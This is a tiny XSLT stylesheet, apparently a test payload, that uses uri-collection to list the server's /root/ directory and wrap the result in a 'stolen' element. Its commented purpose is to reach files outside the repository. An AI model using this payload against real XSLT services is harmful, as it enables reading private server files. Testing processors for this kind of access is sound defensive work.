<?xml version="1.0" encoding="UTF-8"?>
<!-- Listing a directory outside the repository. -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><stolen><xsl:copy-of select="uri-collection('file:///root/')"/></stolen></xsl:template>
</xsl:stylesheet>
